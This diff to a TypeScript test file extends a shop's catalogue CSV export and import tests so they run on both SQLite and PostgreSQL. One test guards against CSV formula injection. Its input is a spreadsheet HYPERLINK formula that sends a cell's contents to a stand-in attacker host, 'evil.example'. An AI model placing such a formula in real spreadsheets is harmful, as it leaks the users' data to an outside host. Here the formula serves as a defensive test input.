@@ -23,6 +23,8 @@ import {
 } from '../../../src/server/catalog-csv/import-jobs.ts';
 import { type Container, createContainer } from '../../../src/server/container.ts';
 import { parseEnv } from '../../../src/server/env.ts';
+import { DATABASES } from '../../helpers/databases.ts';
+import { createTestDatabase } from '../../helpers/postgres.ts';
 import { openTempShop, type TempShop } from '../../helpers/temp-shop.ts';
 
 const ORIGIN = 'https://shop.example';
@@ -32,9 +34,25 @@ const open = () => {
   shops.push(shop);
   return shop.container;
 };
-afterEach(() => {
+const postgresDatabases: Array<() => Promise<void>> = [];
+afterEach(async () => {
   for (const shop of shops.splice(0)) shop.remove();
+  for (const drop of postgresDatabases.splice(0)) await drop();
 });
+
+/** The databases the catalogue's import and export run on: both, but SQLite alone in the quick set. */
+const ON = DATABASES.map(([name]) => name);
+
+/** A shop on `database`: SQLite in a temp data folder, or PostgreSQL, a database of its own beside one. */
+async function openOn(database: string): Promise<Container> {
+  if (database === 'SQLite') return open();
+  const postgres = await createTestDatabase();
+  postgresDatabases.push(postgres.drop);
+  const shop = openTempShop({ DATABASE_URL: postgres.url });
+  shops.push(shop);
+  expect(shop.container.database.dialect).toBe('postgres');
+  return shop.container;
+}
 
 /** Commits a file and runs its job, as the main process does. */
 async function importFile(container: Container, text: string) {
@@ -100,16 +118,16 @@ async function fillShop(container: Container) {
   );
 }
 
-describe('catalogue CSV export and import', () => {
+describe.each(ON)('catalogue CSV export and import on %s', (database) => {
   it('round trip: export, import into an empty shop, export again gives the identical file', async () => {
-    const source = open();
+    const source = await openOn(database);
     await fillShop(source);
     const first = await exported(source);
     expect(first.startsWith(`\uFEFF${CSV_COLUMNS.slice(0, 3).join(',')}`)).toBe(true);
     expect(first).toContain('2024-25-panini-euroleague-evan-fournier-94-2');
     expect(first).toContain('Card: Certificate number (product.metafields.card.cert_number)');
 
-    const target = open();
+    const target = await openOn(database);
     const plan = await planCatalogImport(target, first, ORIGIN);
     expect(plan.counts).toEqual({ create: 5, update: 0, skip: 0, errors: 0 });
     const job = await importFile(target, first);
@@ -122,7 +140,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('no cell runs as a spreadsheet formula, and the file imports back to the original text', async () => {
-    const source = open();
+    const source = await openOn(database);
     const formula = '=HYPERLINK("http://evil.example/?"&A2,"x")';
     await source.commerce.createProduct(
       card(formula, {
@@ -139,7 +157,7 @@ describe('catalogue CSV export and import', () => {
     expect(cells).toContain("'-2+3");
     expect(cells).toContain("'+Gold");
 
-    const target = open();
+    const target = await openOn(database);
     await importFile(target, file);
     const [product] = await target.commerce.listProducts();
     expect(product).toMatchObject({
@@ -152,7 +170,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('the same file again changes nothing: every product matches by handle and is skipped', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     await fillShop(shop);
     const file = await exported(shop);
     const before = await shop.commerce.listProducts();
@@ -169,7 +187,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('a file written with Windows line breaks inside a description is the same file again', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     await fillShop(shop);
     // The description's line break as a spreadsheet on Windows saves it (the shop keeps \n).
     const file = (await exported(shop)).replace('κόμματα,\nκαι', 'κόμματα,\r\nκαι');
@@ -178,7 +196,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('a file without the certificate column keeps the numbers, unless it changes the grader', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     await fillShop(shop);
     // The file as it was before the column existed: the same cells, less the certificate's.
     const table = readCsvTable(await exported(shop));
@@ -198,7 +216,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('an edited file updates what changed and creates what is new', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     await fillShop(shop);
     const file = (await exported(shop))
       .replace(',89.00,,0,', ',79.00,,1,')
@@ -221,7 +239,7 @@ describe('catalogue CSV export and import', () => {
     ['wrong columns', (file: string) => file.replace('Variant Price', 'Price')],
     ['a bad number', (file: string) => file.replace(',89.00,', ',89,5.0,')],
   ])('%s: row errors, and a commit writes nothing', async (_, spoil) => {
-    const shop = open();
+    const shop = await openOn(database);
     await fillShop(shop);
     const good = await exported(shop);
     const bad = spoil(good).replace(',12.50,', ',99.00,');
@@ -235,7 +253,7 @@ describe('catalogue CSV export and import', () => {
   });
 
   it('images: this shop’s own /media/ files are attached; a URL off the image hosts is reported and never fetched', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     const png = await sharp({ create: { width: 50, height: 70, channels: 3, background: '#336699' } })
       .png()
       .toBuffer();
@@ -421,9 +439,9 @@ describe('a file exported from a Shopify store', () => {
   });
 });
 
-describe('the dry run and the commit agree', () => {
+describe.each(ON)('the dry run and the commit agree on %s', (database) => {
   it('an image named on this shop’s media but missing there is an error of the dry run', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     const row = `gone,Gone,,,Card,Olympiacos,TRUE,1.00,,1,${ORIGIN}/media/not-there.webp,1${','.repeat(FACT_KEYS.length)}`;
     const file = `${CSV_COLUMNS.map((name) => (name.includes(',') ? `"${name}"` : name)).join(',')}\r\n${row}\r\n`;
     const plan = await planCatalogImport(shop, file, ORIGIN);
@@ -440,9 +458,9 @@ describe('the dry run and the commit agree', () => {
   });
 });
 
-describe('export of one sport', () => {
+describe.each(ON)('export of one sport on %s', (database) => {
   it('holds the cards of that sport’s teams only', async () => {
-    const shop = open();
+    const shop = await openOn(database);
     await shop.documents.putCategory({
       id: 'euroleague',
       name: 'EUROLEAGUE',
